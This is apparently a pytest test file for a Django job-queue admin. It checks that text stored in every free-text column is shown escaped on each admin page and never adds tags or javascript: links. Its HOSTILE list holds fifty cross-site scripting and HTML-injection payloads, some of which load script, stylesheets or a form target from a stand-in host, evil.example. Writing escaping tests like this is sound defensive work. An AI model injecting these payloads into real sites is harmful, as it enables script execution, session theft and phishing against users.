"""Whatever stands in a text column, a page shows it as text: no tag and no attribute comes or goes by it."""

import json
from itertools import count
from urllib.parse import urlencode

import pytest
from django.contrib.auth.models import User
from django.db import models
from django.test import Client
from django.urls import reverse

from django_jobs.models import Attempt, Job, Queue, Worker
from django_jobs.states import State
from tests import rows
from tests.admin.pages import JOBS, QUEUES, WORKERS, Page, all_matching, button, job_page, selection

pytestmark = [pytest.mark.django_db, pytest.mark.once]

# The timeline tells of distances, which shall not differ.
MOMENT = rows.now()
HARMLESS = "an honest text"
NAME_LENGTH = Queue._meta.get_field("name").max_length or 0
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</pre></details><b hostile>",
    "</td></tr></table><b hostile>",
    "</textarea><i hostile>",
    "</title></style></script><u hostile>",
    "</form><form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>here</a>",
    "<!--><a href=javascript:alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><b hostile>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<b style=position:fixed>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;<em hostile>",
    "&#60;script&#62;alert(1)<em hostile>",
    "\u202e<b hostile>\u2066",
    "{{ 7|add:7 }}{% debug %}{# <s hostile> #}",
    "%(moved)s %s {0} {name} <q hostile>",
]


def texts_of(model, text):
    """Return the text for every column of the model that holds free text, as much of it as goes in."""
    return {
        field.name: text[: field.max_length] if field.max_length else text
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField) and not field.choices
    }


def together(texts):
    """Return the texts, as many in one as the name of a queue may be long: each page is made less often."""
    joined = [texts[0]]
    for text in texts[1:]:
        if len(f"{joined[-1]} {text}") <= NAME_LENGTH:
            joined[-1] += f" {text}"
        else:
            joined.append(text)
    return joined


@pytest.fixture
def shown(admin_client, settings):
    """Give `shown(text)`, every page there is while that text stands in every column, by name."""
    numbers = count()

    def shown(text):
        number = next(numbers)
        user = User.objects.create_user(f"user{number}", first_name=text, is_staff=True, is_superuser=True)
        client = Client()
        client.force_login(user)
        settings.DJANGO_JOBS = {**settings.DJANGO_JOBS, "QUEUES": {text: {}}}
        queue = Queue.objects.create(name=text, paused=True, paused_at=rows.now())
        # Alive on every page, however slow the machine is.
        beat_at = rows.now() + rows.HOUR
        worker = rows.worker(**texts_of(Worker, text), queues=[text], names=[text], beat_at=beat_at)
        texts = texts_of(Job, text)
        waiting = rows.put(**texts)
        running = rows.put(State.RUNNING, **texts | {"owner": worker})
        quoted = {"arguments": json.dumps([[text], {text: text}]), "result_text": json.dumps({text: text})}
        failed = rows.put(State.FAILED, run_after=MOMENT, finished_at=MOMENT, **texts | quoted)
        Attempt.objects.create(job=failed, number=1, worker=worker, finished_at=MOMENT, **texts_of(Attempt, text))
        responses = {
            "list": client.get(JOBS),
            "filtered": client.get(JOBS, {"q": text, "queue_name": text, "state": text}),
            "waiting": client.get(job_page(waiting)),
            "running": client.get(job_page(running)),
            "failed": client.get(job_page(failed)),
            "asked": client.post(JOBS, selection(waiting.pk, running.pk, failed.pk, action="remove")),
            "all": client.post(f"{JOBS}?{urlencode({'queue_name': text})}", all_matching()),
            "retried": client.post(*button(failed), follow=True),
            "history": client.get(reverse("admin:django_jobs_job_history", args=[failed.pk])),
            "queues": client.get(QUEUES),
            "queue": client.get(reverse("admin:django_jobs_queue_change", args=[queue.pk])),
            "refused": client.post(reverse("admin:django_jobs_queue_pause"), {"name": text}, follow=True),
            "workers": client.get(WORKERS),
            "worker": client.get(reverse("admin:django_jobs_worker_change", args=[worker])),
            "index": client.get(reverse("admin:index")),
        }
        for model in (Attempt, Job, Queue, Worker):
            model.objects.all().delete()
        return {name: Page(response) for name, response in responses.items() if response.status_code == 200}

    return shown


def test_no_text_changes_a_tag_of_any_page(shown):
    expected = {name: page.shape() for name, page in shown(HARMLESS).items()}
    assert len(expected) == 15
    for hostile in together(HOSTILE):
        pages = shown(hostile)
        assert {name: page.shape() for name, page in pages.items()} == expected, hostile
        links = {link for page in pages.values() for link in page.links()}
        assert not any(link.startswith("javascript:") for link in links), hostile


def test_the_text_is_shown_as_it_is(shown):
    pages = shown("<b hostile>")
    for name in ("list", "waiting", "running", "failed", "asked", "history", "queues", "queue", "workers", "worker"):
        assert "<b hostile>" in pages[name].text, name


def test_there_are_fifty():
    assert len(set(HOSTILE)) == 50
